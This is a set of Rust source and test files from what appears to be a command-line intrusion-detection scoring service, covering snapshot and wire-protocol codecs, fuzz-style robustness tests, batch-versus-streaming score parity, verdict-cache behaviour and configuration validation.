                .collect(),
        )
    }

    /// Encodes the snapshot (magic + version + states). All-f32
    /// detector sets still write version-1 frames byte for byte; any
    /// quantized index payload bumps the frame to version 2, matching
    /// `index::IndexSnapshot::to_bytes`' negotiation.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = ByteWriter::new();
        for b in MAGIC {
            w.put_u8(*b);
        }
        let quantized = self.states.iter().any(DetectorState::has_quantized_payload);
        w.put_u32(if quantized { VERSION_V2 } else { VERSION_V1 });
        w.put_usize(self.states.len());
        for state in &self.states {
            state.write(&mut w);
        }
        w.into_bytes()
    }

    /// Decodes a [`ServiceSnapshot::to_bytes`] frame (versions 1 and
    /// 2; unknown future versions are a typed error).
    pub fn from_bytes(bytes: &[u8]) -> Result<ServiceSnapshot, PersistError> {
        let mut r = ByteReader::new(bytes);
        for want in MAGIC {
            if r.get_u8()? != *want {
                return Err(PersistError::BadMagic);
            }
        }
        let version = r.get_u32()?;
        if !(VERSION_V1..=VERSION_V2).contains(&version) {
            return Err(PersistError::UnsupportedVersion(version));
        }
        let n = r.get_usize()?;
        if n > 1024 {
            return Err(PersistError::Corrupt("absurd detector count"));
        }
        let mut states = Vec::with_capacity(n);
        for _ in 0..n {
            states.push(DetectorState::read(&mut r)?);
        }
        Ok(ServiceSnapshot { states })
    }

    /// Writes the snapshot to `path`.
    pub fn save(&self, path: impl AsRef<Path>) -> Result<(), SnapshotError> {
        Ok(std::fs::write(path, self.to_bytes())?)
    }

    /// Reads a snapshot from `path`.
    pub fn load(path: impl AsRef<Path>) -> Result<ServiceSnapshot, SnapshotError> {
        Ok(ServiceSnapshot::from_bytes(&std::fs::read(path)?)?)
    }
}
