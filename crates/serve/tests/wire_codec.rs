//! Property tests for the `serve::wire` codec, in the
//! `persist_codec.rs` style: every request/response variant
//! round-trips bit-exactly, and *no* corruption of a valid frame —
//! truncation, byte flips, or an oversized length prefix — may panic.
//! A listening socket hands this parser attacker-controlled bytes, so
//! malformed input must surface as a typed error, never a crash.

use index::persist::PersistError;
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serve::wire::{
    decode_request, decode_response, encode_request, encode_response, write_frame, FrameEvent,
    FrameReader, NetError, WireErrorKind, WireRequest, WireResponse, WIRE_MAGIC, WIRE_VERSION,
};
use serve::ServiceStats;
use std::io::Read;

fn arb_line(rng: &mut StdRng) -> String {
    let len = rng.gen_range(0usize..40);
    (0..len)
        .map(|_| {
            if rng.gen_bool(0.05) {
                'λ' // exercise multi-byte utf-8 on the wire
            } else {
                rng.gen_range(b' '..=b'~') as char
            }
        })
        .collect()
}

fn arb_lines(rng: &mut StdRng, max: usize) -> Vec<String> {
    let n = rng.gen_range(0usize..max);
    (0..n).map(|_| arb_line(rng)).collect()
}

fn arb_request(rng: &mut StdRng) -> WireRequest {
    match rng.gen_range(0u8..8) {
        0 => WireRequest::Hello,
        1 => WireRequest::Score {
            lines: arb_lines(rng, 12),
        },
        2 => {
            let lines = arb_lines(rng, 12);
            let labels = lines.iter().map(|_| rng.gen_bool(0.3)).collect();
            WireRequest::Append { lines, labels }
        }
        3 => WireRequest::Snapshot,
        4 => WireRequest::Stats,
        5 => WireRequest::ScoreTenant {
            tenant: rng.gen(),
            lines: arb_lines(rng, 12),
        },
        6 => {
            let lines = arb_lines(rng, 12);
            let labels = lines.iter().map(|_| rng.gen_bool(0.3)).collect();
            WireRequest::AppendTenant {
                tenant: rng.gen(),
                lines,
                labels,
            }
        }
        _ => WireRequest::Shutdown,
    }
}

fn arb_error_kind(rng: &mut StdRng) -> WireErrorKind {
    [
        WireErrorKind::Closed,
        WireErrorKind::StreamStructured,
        WireErrorKind::Engine,
        WireErrorKind::InvalidConfig,
        WireErrorKind::Busy,
        WireErrorKind::BadRequest,
        WireErrorKind::TooLarge,
    ][rng.gen_range(0usize..7)]
}

fn arb_response(rng: &mut StdRng) -> WireResponse {
    match rng.gen_range(0u8..7) {
        0 => WireResponse::Hello {
            methods: arb_lines(rng, 6),
        },
        1 => {
            let n = rng.gen_range(0usize..8);
            let m = rng.gen_range(0usize..5);
            WireResponse::Scores(
                (0..n)
                    .map(|_| (0..m).map(|_| rng.gen::<f32>()).collect())
                    .collect(),
            )
        }
        2 => WireResponse::Appended(rng.gen_range(0usize..1000)),
        3 => {
            let n = rng.gen_range(0usize..64);
            WireResponse::Snapshot {
                frame: (0..n).map(|_| rng.gen_range(0u8..=255)).collect(),
                skipped: arb_lines(rng, 4),
            }
        }
        4 => WireResponse::Stats(ServiceStats {
            batches: rng.gen_range(0usize..10_000),
            lines: rng.gen_range(0usize..100_000),
            cache_hits: rng.gen_range(0usize..100_000),
            cache_misses: rng.gen_range(0usize..100_000),
            epoch: rng.gen_range(0u64..1_000),
        }),
        5 => WireResponse::ShuttingDown,
        _ => WireResponse::Error {
            kind: arb_error_kind(rng),
            message: arb_line(rng),
        },
    }
}

proptest! {
    /// Round trip: decode(encode(req)) recovers the id and the
    /// request exactly, for every variant.
    #[test]
    fn request_round_trip(seed in 0u64..500, id in 0u64..u64::MAX) {
        let mut rng = StdRng::seed_from_u64(seed);
        let req = arb_request(&mut rng);
        let payload = encode_request(id, &req);
        let (got_id, got) = decode_request(&payload).expect("round trip decodes");
        prop_assert_eq!(got_id, id);
        prop_assert_eq!(got, req);
    }

    /// Round trip for every response variant.
    #[test]
    fn response_round_trip(seed in 0u64..500, id in 0u64..u64::MAX) {
        let mut rng = StdRng::seed_from_u64(seed);
        let resp = arb_response(&mut rng);
        let payload = encode_response(id, &resp);
        let (got_id, got) = decode_response(&payload).expect("round trip decodes");
        prop_assert_eq!(got_id, id);
        prop_assert_eq!(got, resp);
    }

    /// Truncating a valid payload at *any* length is a typed error —
    /// every field and collection is length-prefixed and trailing
    /// bytes are rejected, so no strict prefix can decode.
    #[test]
    fn every_truncation_errors_without_panicking(
        seed in 0u64..300,
        cut_fraction in 0.0f64..1.0,
        response in 0u8..2,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let payload = if response == 0 {
            encode_request(7, &arb_request(&mut rng))
        } else {
            encode_response(7, &arb_response(&mut rng))
        };
        let cut = ((payload.len() as f64) * cut_fraction) as usize;
        prop_assert!(cut < payload.len());
        let truncated = &payload[..cut];
        if response == 0 {
            prop_assert!(decode_request(truncated).is_err());
        } else {
            prop_assert!(decode_response(truncated).is_err());
        }
    }

    /// Arbitrary single-byte damage must never panic: it decodes to a
    /// typed error, or — when the flipped byte is not load-bearing
    /// (string content, a score bit) — to some other valid message,
    /// but the process survives either way.
    #[test]
    fn single_byte_damage_never_panics(
        seed in 0u64..300,
        pos_fraction in 0.0f64..1.0,
        xor in 1u8..=255,
        response in 0u8..2,
    ) {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut payload = if response == 0 {
            encode_request(7, &arb_request(&mut rng))
        } else {
            encode_response(7, &arb_response(&mut rng))
        };
        let pos = ((payload.len() as f64) * pos_fraction) as usize % payload.len();
        payload[pos] ^= xor;
        if response == 0 {
            let _ = decode_request(&payload); // must not panic
        } else {
            let _ = decode_response(&payload); // must not panic
        }
    }

    /// A frame split across arbitrarily-placed reads (and read
    /// timeouts between them) reassembles byte-exactly — the reader
    /// retains partial bytes instead of desyncing.
    #[test]
    fn split_frames_reassemble(seed in 0u64..300, split_fraction in 0.0f64..1.0) {
        let mut rng = StdRng::seed_from_u64(seed);
        let payload = encode_request(42, &arb_request(&mut rng));
        let mut wire = Vec::new();
        write_frame(&mut wire, &payload, 1 << 20).expect("frame fits");
        let split = ((wire.len() as f64) * split_fraction) as usize;
        let mut source = ChunkedRead {
            chunks: vec![wire[..split].to_vec(), wire[split..].to_vec()],
        };
        let mut frames = FrameReader::new();
        let mut out = None;
        // At most: partial chunk → Idle, rest → Frame.
        for _ in 0..4 {
            match frames.read_frame(&mut source, 1 << 20).expect("no error") {
                FrameEvent::Frame(p) => { out = Some(p); break; }
                FrameEvent::Idle => continue,
                FrameEvent::Eof => break,
            }
        }
        prop_assert_eq!(out.as_deref(), Some(&payload[..]));
    }
}

/// A reader that yields its chunks one `read` at a time, with a
/// `WouldBlock` between them — the shape a socket read timeout
/// produces mid-frame.
struct ChunkedRead {
    chunks: Vec<Vec<u8>>,
}

impl Read for ChunkedRead {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        if self.chunks.is_empty() {
            return Ok(0);
        }
        let chunk = self.chunks.remove(0);
        if chunk.is_empty() {
            return Err(std::io::Error::new(std::io::ErrorKind::WouldBlock, "idle"));
        }
        buf[..chunk.len()].copy_from_slice(&chunk);
        Ok(chunk.len())
    }
}

/// An oversized length prefix is rejected *before* allocating or
/// consuming — the typed [`NetError::FrameTooLarge`], not an OOM.
#[test]
fn oversized_length_prefix_is_rejected() {
    let mut wire = Vec::new();
    wire.extend_from_slice(&u32::MAX.to_le_bytes());
    wire.extend_from_slice(&[0u8; 64]);
    let mut frames = FrameReader::new();
    match frames.read_frame(&mut &wire[..], 1024) {
        Err(NetError::FrameTooLarge { len, max }) => {
            assert_eq!(len, u32::MAX as usize);
            assert_eq!(max, 1024);
        }
        other => panic!("expected FrameTooLarge, got {other:?}"),
    }
}

/// `write_frame` refuses an over-limit payload before touching the
/// socket, so an oversized reply never desyncs the stream.
#[test]
fn write_frame_refuses_oversized_payloads() {
    let mut wire = Vec::new();
    let payload = vec![0u8; 2048];
    match write_frame(&mut wire, &payload, 1024) {
        Err(NetError::FrameTooLarge { len, max }) => {
            assert_eq!((len, max), (2048, 1024));
            assert!(wire.is_empty(), "nothing written before the check");
        }
        other => panic!("expected FrameTooLarge, got {other:?}"),
    }
}

/// EOF mid-frame is a truncation error; EOF at a frame boundary is a
/// clean close.
#[test]
fn eof_mid_frame_is_truncation() {
    let payload = encode_request(1, &WireRequest::Hello);
    let mut wire = Vec::new();
    write_frame(&mut wire, &payload, 1 << 20).unwrap();

    let mut frames = FrameReader::new();
    match frames.read_frame(&mut &wire[..wire.len() - 1], 1 << 20) {
        Err(NetError::Frame(PersistError::Truncated)) => {}
        other => panic!("expected Truncated, got {other:?}"),
    }

    let mut frames = FrameReader::new();
    let mut cursor = &wire[..];
    assert!(matches!(
        frames.read_frame(&mut cursor, 1 << 20),
        Ok(FrameEvent::Frame(p)) if p == payload
    ));
    assert!(matches!(
        frames.read_frame(&mut cursor, 1 << 20),
        Ok(FrameEvent::Eof)
    ));
}

/// The classic typed-error corners: empty input, an unknown message
/// tag, an unknown error-kind byte, and trailing garbage.
#[test]
fn typed_errors_for_tags_and_trailing_bytes() {
    assert_eq!(decode_request(b"").unwrap_err(), PersistError::Truncated);
    assert_eq!(decode_response(b"").unwrap_err(), PersistError::Truncated);

    let mut bad_tag = encode_request(3, &WireRequest::Hello);
    let tag_at = 10; // after the magic, version, and id
    bad_tag[tag_at] = 250;
    assert_eq!(
        decode_request(&bad_tag).unwrap_err(),
        PersistError::BadTag(250)
    );
    assert_eq!(
        decode_response(&bad_tag).unwrap_err(),
        PersistError::BadTag(250)
    );

    let mut bad_kind = encode_response(
        3,
        &WireResponse::Error {
            kind: WireErrorKind::Busy,
            message: String::new(),
        },
    );
    bad_kind[tag_at + 1] = 99;
    assert_eq!(
        decode_response(&bad_kind).unwrap_err(),
        PersistError::BadTag(99)
    );

    let mut trailing = encode_request(3, &WireRequest::Shutdown);
    trailing.push(0);
    assert!(matches!(
        decode_request(&trailing).unwrap_err(),
        PersistError::Corrupt(_)
    ));
}

/// A pre-versioning (v1) frame — `id:u64 | tag | body`, no
/// magic/version prefix — is a typed error, never a panic: its first
/// byte lands where the magic now lives, so any id whose low byte is
/// not the magic is rejected up front. (An id that happens to collide
/// with the magic instead trips the version check or a later typed
/// error — detection is probabilistic, totality is not.)
#[test]
fn old_version_frames_are_typed_errors() {
    // Exactly what the v1 encoder emitted for `Score` under id 3.
    let mut v1 = Vec::new();
    v1.extend_from_slice(&3u64.to_le_bytes());
    v1.push(1); // v1 Score tag
    v1.extend_from_slice(&1u64.to_le_bytes()); // one line
    v1.extend_from_slice(&2u64.to_le_bytes());
    v1.extend_from_slice(b"ls");
    assert_ne!(v1[0], WIRE_MAGIC, "id 3's low byte must miss the magic");
    assert_eq!(decode_request(&v1).unwrap_err(), PersistError::BadMagic);
    assert_eq!(decode_response(&v1).unwrap_err(), PersistError::BadMagic);
}

/// A frame carrying the right magic but a different protocol version
/// is rejected with the typed `UnsupportedVersion` naming the version
/// it saw — the peer learns *why* instead of getting a tag-soup error.
#[test]
fn future_version_frames_name_their_version() {
    let mut payload = encode_request(3, &WireRequest::Hello);
    assert_eq!(payload[0], WIRE_MAGIC);
    assert_eq!(payload[1], WIRE_VERSION);
    payload[1] = WIRE_VERSION + 1;
    assert_eq!(
        decode_request(&payload).unwrap_err(),
        PersistError::UnsupportedVersion(u32::from(WIRE_VERSION + 1))
    );
    assert_eq!(
        decode_response(&payload).unwrap_err(),
        PersistError::UnsupportedVersion(u32::from(WIRE_VERSION + 1))
    );
}
