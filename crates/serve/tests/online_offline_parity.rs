//! Online/offline parity: replaying a corpus line-by-line through the
//! streaming service must produce **bit-identical** scores to the
//! one-shot batch `ScoringEngine::run` on the exact backend, and
//! rank-equivalent scores within tolerance on HNSW.
//!
//! This is the contract that keeps the serving path honest: micro-
//! batching, per-arrival encoder passes, and worker fan-out are
//! implementation details that must not move a single bit of the
//! paper-faithful scores.

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, IndexConfig, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{ScoringService, ServeConfig};
use std::time::Duration;

use anomaly::{PcaMethod, RetrievalMethod, VanillaKnnMethod};

struct Fixture {
    pipeline: IdsPipeline,
    train_lines: Vec<String>,
    labels: Vec<bool>,
    test_lines: Vec<String>,
}

fn fixture() -> Fixture {
    let mut config = PipelineConfig::fast();
    config.train_size = 700;
    config.test_size = 300;
    config.attack_prob = 0.25;
    let mut rng = StdRng::seed_from_u64(1234);
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    Fixture {
        pipeline,
        train_lines: dataset.train.iter().map(|r| r.line.clone()).collect(),
        labels,
        test_lines: dedup_records(&dataset.test)
            .iter()
            .map(|r| r.line.clone())
            .collect(),
    }
}

fn engine(index: IndexConfig) -> ScoringEngine {
    ScoringEngine::new()
        .with_index_config(index)
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .register(Box::new(PcaMethod::new(0.95)))
}

/// One-shot batch protocol: embed the whole test split in one store
/// pass, score every method. Returns scores per method name.
fn offline_scores(fx: &Fixture, index: IndexConfig) -> Vec<(String, Vec<f32>)> {
    let store = EmbeddingStore::new(&fx.pipeline);
    let train = store.view_of(&fx.train_lines, Pooling::Mean);
    let test = store.view_of(&fx.test_lines, Pooling::Mean);
    let run = engine(index)
        .run(&train, &fx.labels, &test)
        .expect("batch run succeeds");
    run.outputs()
        .iter()
        .map(|m| (m.name.clone(), m.scores.clone()))
        .collect()
}

/// Streams the test split through a live service in arrival-sized
/// chunks, collecting per-method score vectors aligned with the batch
/// protocol's output.
fn online_scores(fx: &Fixture, index: IndexConfig, chunk: usize) -> Vec<(String, Vec<f32>)> {
    let store = EmbeddingStore::new(&fx.pipeline);
    let train = store.view_of(&fx.train_lines, Pooling::Mean);
    let fitted = engine(index).fit(&train, &fx.labels).expect("fit succeeds");
    let service = ScoringService::spawn(
        fx.pipeline.clone(),
        fitted,
        ServeConfig {
            queue_capacity: 32,
            max_batch: 16,
            batch_window: Duration::from_micros(200),
            workers: 2,
        },
    )
    .expect("line-aligned methods serve");
    let names: Vec<String> = service.method_names().to_vec();
    let mut per_method: Vec<Vec<f32>> = vec![Vec::new(); names.len()];
    for lines in fx.test_lines.chunks(chunk) {
        let replies = service.score_batch(lines).expect("service alive");
        assert_eq!(replies.len(), lines.len());
        for line_scores in replies {
            assert_eq!(line_scores.len(), names.len());
            for (m, s) in line_scores.into_iter().enumerate() {
                per_method[m].push(s);
            }
        }
    }
    service.shutdown();
    names.into_iter().zip(per_method).collect()
}

use linalg::ops::spearman;

#[test]
fn streaming_is_bit_identical_to_batch_on_the_exact_backend() {
    let fx = fixture();
    let offline = offline_scores(&fx, IndexConfig::Exact);
    // Line-by-line replay: every arrival is its own request (micro-
    // batching may still coalesce them — that must not matter).
    let online = online_scores(&fx, IndexConfig::Exact, 1);
    assert_eq!(offline.len(), online.len());
    for ((name_off, scores_off), (name_on, scores_on)) in offline.iter().zip(&online) {
        assert_eq!(name_off, name_on);
        assert_eq!(
            scores_off, scores_on,
            "{name_off}: streamed scores must be bit-identical to the batch run"
        );
    }
    // Chunked replay (a busier arrival pattern) is equally exact.
    let chunked = online_scores(&fx, IndexConfig::Exact, 7);
    for ((name_off, scores_off), (_, scores_chunked)) in offline.iter().zip(&chunked) {
        assert_eq!(
            scores_off, scores_chunked,
            "{name_off}: chunk size must not move scores"
        );
    }
}

#[test]
fn streaming_hnsw_is_rank_equivalent_within_tolerance() {
    let fx = fixture();
    let offline_exact = offline_scores(&fx, IndexConfig::Exact);
    let online_hnsw = online_scores(&fx, IndexConfig::hnsw(), 5);
    for ((name, exact), (_, approx)) in offline_exact.iter().zip(&online_hnsw) {
        let rho = spearman(exact, approx);
        assert!(
            rho >= 0.97,
            "{name}: streamed HNSW ranking drifted from exact batch (ρ = {rho:.4})"
        );
    }
}
