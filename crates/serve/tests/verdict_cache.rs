//! Verdict-cache correctness: cache-on ≡ cache-off bit-for-bit on the
//! exact backend (unsharded and sharded), append-then-score never
//! serves a stale verdict (the epoch bump), and the LRU capacity bound
//! holds under a Zipf replay.

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, FittedEngine, IndexConfig, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::{dedup_records, ZipfSampler};
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{Frontend, ServeConfig};
use std::sync::OnceLock;
use std::time::Duration;

use anomaly::{RetrievalMethod, VanillaKnnMethod};

struct Fixture {
    pipeline: IdsPipeline,
    train_lines: Vec<String>,
    labels: Vec<bool>,
    test_lines: Vec<String>,
}

/// Fit once per test binary: the tests share one frozen pipeline and
/// fit their own engines from it.
fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let mut config = PipelineConfig::fast();
        config.train_size = 500;
        config.test_size = 250;
        config.attack_prob = 0.25;
        let mut rng = StdRng::seed_from_u64(4242);
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        let ids = RuleIds::with_default_rules();
        let labels: Vec<bool> = dataset
            .train
            .iter()
            .map(|r| ids.is_alert(&r.line))
            .collect();
        Fixture {
            pipeline,
            train_lines: dataset.train.iter().map(|r| r.line.clone()).collect(),
            labels,
            test_lines: dedup_records(&dataset.test)
                .iter()
                .map(|r| r.line.clone())
                .collect(),
        }
    })
}

fn fitted(fx: &Fixture, index: IndexConfig) -> FittedEngine {
    let store = EmbeddingStore::new(&fx.pipeline);
    let train = store.view_of(&fx.train_lines, Pooling::Mean);
    ScoringEngine::new()
        .with_index_config(index)
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &fx.labels)
        .expect("fit succeeds")
}

fn serve_config() -> ServeConfig {
    ServeConfig {
        queue_capacity: 64,
        max_batch: 16,
        batch_window: Duration::from_micros(200),
        workers: 2,
    }
}

/// A Zipf-heavy replay over the deduplicated test pool: the arrival
/// pattern the cache exists for.
fn zipf_replay(fx: &Fixture, draws: usize, seed: u64) -> Vec<String> {
    let sampler = ZipfSampler::new(fx.test_lines.len(), 1.05);
    let mut rng = StdRng::seed_from_u64(seed);
    (0..draws)
        .map(|_| fx.test_lines[sampler.sample(&mut rng)].clone())
        .collect()
}

/// Cache-on and cache-off verdicts are bit-identical on the exact
/// backend, on both the unsharded service and the shard router. The
/// comparison runs against the *same* live front-end: `client()`
/// bypasses the cache, `score_batch` goes through it, and a Zipf
/// replay guarantees the cached path actually serves hits.
#[test]
fn cache_on_equals_cache_off_bit_for_bit() {
    let fx = fixture();
    for shards in [1usize, 2] {
        let index = if shards > 1 {
            IndexConfig::Exact.with_shards(shards)
        } else {
            IndexConfig::Exact
        };
        let front = Frontend::spawn(
            fx.pipeline.clone(),
            fitted(fx, index),
            shards,
            serve_config(),
        )
        .expect("spawn succeeds")
        .with_cache(256)
        .expect("nonzero capacity");
        let replay = zipf_replay(fx, 600, 7);
        for chunk in replay.chunks(9) {
            let cached = front.score_batch(chunk).expect("front alive");
            let raw = front.client().score_batch(chunk).expect("front alive");
            assert_eq!(
                cached, raw,
                "cached verdicts must be bit-identical to the uncached path ({shards} shard(s))"
            );
        }
        let stats = front.stats();
        assert!(
            stats.cache_hits > 0,
            "a Zipf replay must produce cache hits (got {} hits / {} misses)",
            stats.cache_hits,
            stats.cache_misses
        );
        front.shutdown();
    }
}

/// Append-then-score never serves a stale verdict: absorbing the
/// scored line itself as a labeled exemplar changes its retrieval
/// distance to zero, so the post-append verdict provably differs —
/// and the cached path must return the *new* one, bit-identical to
/// the uncached path, because the append bumped the epoch.
#[test]
fn append_then_score_never_serves_a_stale_verdict() {
    let fx = fixture();
    let front = Frontend::spawn(
        fx.pipeline.clone(),
        fitted(fx, IndexConfig::Exact),
        1,
        serve_config(),
    )
    .expect("spawn succeeds")
    .with_cache(64)
    .expect("nonzero capacity");

    let line = fx.test_lines[0].clone();
    let before = front.score_line(&line).expect("front alive");
    // The verdict is now cached: a re-score hits.
    let cached = front.score_line(&line).expect("front alive");
    assert_eq!(before, cached);
    let stats = front.stats();
    assert!(stats.cache_hits >= 1);
    assert_eq!(stats.epoch, 0);

    // Absorb the line itself (plus a few neighbours) as supervision.
    let append_lines: Vec<String> = vec![line.clone(), fx.test_lines[1].clone()];
    let labels = vec![true, false];
    let absorbed = front
        .append(&append_lines, &labels)
        .expect("append succeeds");
    assert!(absorbed > 0, "neighbour methods absorb appends");
    assert_eq!(front.stats().epoch, 1, "append bumps the cache epoch");

    let after_cached = front.score_line(&line).expect("front alive");
    let after_raw = front.client().score_line(&line).expect("front alive");
    assert_eq!(
        after_cached, after_raw,
        "post-append cached verdict must match the uncached path"
    );
    assert_ne!(
        before, after_cached,
        "appending the line as an exemplar must change its verdict — \
         if these match, the cache served a stale entry"
    );
    front.shutdown();
}

/// The LRU capacity bound holds under a Zipf replay, evictions happen,
/// and the hot head still hits.
#[test]
fn lru_capacity_enforced_under_zipf_replay() {
    let fx = fixture();
    let capacity = 32;
    let front = Frontend::spawn(
        fx.pipeline.clone(),
        fitted(fx, IndexConfig::Exact),
        1,
        serve_config(),
    )
    .expect("spawn succeeds")
    .with_cache(capacity)
    .expect("nonzero capacity");
    let cache = front.cache().expect("cache attached").clone();

    for chunk in zipf_replay(fx, 800, 11).chunks(8) {
        front.score_batch(chunk).expect("front alive");
        assert!(
            cache.len() <= capacity,
            "resident entries ({}) exceeded capacity ({capacity})",
            cache.len()
        );
    }
    let stats = cache.stats();
    assert_eq!(stats.capacity, capacity);
    assert!(
        stats.evictions > 0,
        "a {}-line pool through a {capacity}-entry cache must evict",
        fx.test_lines.len()
    );
    assert!(
        stats.hits > 0,
        "the Zipf head must hit even under eviction pressure"
    );
    front.shutdown();
}
