//! `ServeConfig` / `RouterConfig` / `NetConfig` shapes that can never
//! serve must be rejected with a typed [`ServeError::InvalidConfig`]
//! at validation time — not discovered as a deadlocked queue, a
//! silently clamped knob, or a downstream panic.

use serve::{NetConfig, RouterConfig, ServeConfig, ServeError};
use std::time::Duration;

fn invalid(result: Result<(), ServeError>, needle: &str) {
    match result {
        Err(ServeError::InvalidConfig(why)) => {
            assert!(why.contains(needle), "message {why:?} misses {needle:?}")
        }
        Err(other) => panic!("expected InvalidConfig, got {other:?}"),
        Ok(()) => panic!("expected rejection"),
    }
}

#[test]
fn zero_knobs_are_rejected_with_typed_errors() {
    let ok = ServeConfig::default();
    assert!(ok.validate().is_ok());

    invalid(
        ServeConfig {
            queue_capacity: 0,
            ..ok
        }
        .validate(),
        "queue_capacity",
    );
    invalid(ServeConfig { workers: 0, ..ok }.validate(), "workers");
    invalid(ServeConfig { max_batch: 0, ..ok }.validate(), "max_batch");

    // A zero batch *window* stays legal: it is the documented
    // score-every-request-alone mode (the serve_throughput baseline).
    assert!(ServeConfig {
        batch_window: Duration::ZERO,
        ..ok
    }
    .validate()
    .is_ok());
}

#[test]
fn router_knobs_are_validated_too() {
    assert!(RouterConfig::default().validate().is_ok());
    invalid(
        RouterConfig {
            shards: 0,
            ..RouterConfig::default()
        }
        .validate(),
        "shards",
    );
    invalid(
        RouterConfig {
            shard_workers: 0,
            ..RouterConfig::default()
        }
        .validate(),
        "shard_workers",
    );
    // Nested serve knobs propagate.
    invalid(
        RouterConfig {
            serve: ServeConfig {
                workers: 0,
                ..ServeConfig::default()
            },
            ..RouterConfig::default()
        }
        .validate(),
        "workers",
    );
}

#[test]
fn net_zero_knobs_are_rejected_with_typed_errors() {
    let ok = NetConfig::default();
    assert!(ok.validate().is_ok());

    invalid(NetConfig { port: 0, ..ok }.validate(), "port");
    invalid(NetConfig { backlog: 0, ..ok }.validate(), "backlog");
    invalid(
        NetConfig {
            max_connections: 0,
            ..ok
        }
        .validate(),
        "max_connections",
    );
    // A zero-entry cache is a config error, not "cache disabled" —
    // `None` is how you disable it.
    invalid(
        NetConfig {
            cache: Some(0),
            ..ok
        }
        .validate(),
        "cache capacity",
    );
    assert!(NetConfig { cache: None, ..ok }.validate().is_ok());
}

#[test]
fn net_absurd_knobs_are_rejected_not_clamped() {
    let ok = NetConfig::default();

    // Too small to frame even a control response.
    invalid(
        NetConfig {
            max_frame: 1023,
            ..ok
        }
        .validate(),
        "max_frame",
    );
    // Too large to be anything but a typo.
    invalid(
        NetConfig {
            max_frame: (1 << 30) + 1,
            ..ok
        }
        .validate(),
        "absurd",
    );
    invalid(
        NetConfig {
            backlog: (1 << 20) + 1,
            ..ok
        }
        .validate(),
        "absurd",
    );
    invalid(
        NetConfig {
            max_connections: (1 << 16) + 1,
            ..ok
        }
        .validate(),
        "absurd",
    );
    invalid(
        NetConfig {
            cache: Some((1 << 24) + 1),
            ..ok
        }
        .validate(),
        "absurd",
    );

    // Boundary values on each side stay legal.
    assert!(NetConfig {
        max_frame: 1024,
        cache: Some(1 << 24),
        backlog: 1 << 20,
        max_connections: 1 << 16,
        ..NetConfig::default()
    }
    .validate()
    .is_ok());
}
