//! `ServeConfig` / `RouterConfig` shapes that can never serve must be
//! rejected with a typed [`ServeError::InvalidConfig`] at validation
//! time — not discovered as a deadlocked queue or a downstream panic.

use serve::{RouterConfig, ServeConfig, ServeError};
use std::time::Duration;

fn invalid(result: Result<(), ServeError>, needle: &str) {
    match result {
        Err(ServeError::InvalidConfig(why)) => {
            assert!(why.contains(needle), "message {why:?} misses {needle:?}")
        }
        Err(other) => panic!("expected InvalidConfig, got {other:?}"),
        Ok(()) => panic!("expected rejection"),
    }
}

#[test]
fn zero_knobs_are_rejected_with_typed_errors() {
    let ok = ServeConfig::default();
    assert!(ok.validate().is_ok());

    invalid(
        ServeConfig {
            queue_capacity: 0,
            ..ok
        }
        .validate(),
        "queue_capacity",
    );
    invalid(ServeConfig { workers: 0, ..ok }.validate(), "workers");
    invalid(ServeConfig { max_batch: 0, ..ok }.validate(), "max_batch");

    // A zero batch *window* stays legal: it is the documented
    // score-every-request-alone mode (the serve_throughput baseline).
    assert!(ServeConfig {
        batch_window: Duration::ZERO,
        ..ok
    }
    .validate()
    .is_ok());
}

#[test]
fn router_knobs_are_validated_too() {
    assert!(RouterConfig::default().validate().is_ok());
    invalid(
        RouterConfig {
            shards: 0,
            ..RouterConfig::default()
        }
        .validate(),
        "shards",
    );
    invalid(
        RouterConfig {
            shard_workers: 0,
            ..RouterConfig::default()
        }
        .validate(),
        "shard_workers",
    );
    // Nested serve knobs propagate.
    invalid(
        RouterConfig {
            serve: ServeConfig {
                workers: 0,
                ..ServeConfig::default()
            },
            ..RouterConfig::default()
        }
        .validate(),
        "workers",
    );
}
