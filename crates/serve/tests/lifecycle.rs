//! The online detector lifecycle's keystone claims, pinned
//! deterministically:
//!
//! * a refit racing live score traffic converges to verdicts
//!   **bit-identical** to a stop-the-world refit — every in-flight
//!   micro-batch completes on exactly one epoch (old or new, never a
//!   torn mix), and exactly one verdict comes back per submitted
//!   line;
//! * the append-count trigger arms a pending refit in manual mode and
//!   actually runs one in background mode;
//! * the shared [`VerdictCache`] epoch invalidates on refit swaps
//!   exactly as it does on appends;
//! * a [`ServiceSnapshot`] taken mid-refit is atomic: one epoch or a
//!   typed [`ServeError::SnapshotRace`], never a mixed capture;
//! * the sharded router's refit path keeps bit-parity with the
//!   unsharded service's.
//!
//! `SERVE_STRESS_ITERS=N` multiplies the racing iteration counts for
//! the release-mode CI stress job.

use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Barrier};
use std::time::{Duration, Instant};

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, FittedEngine, IndexConfig, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
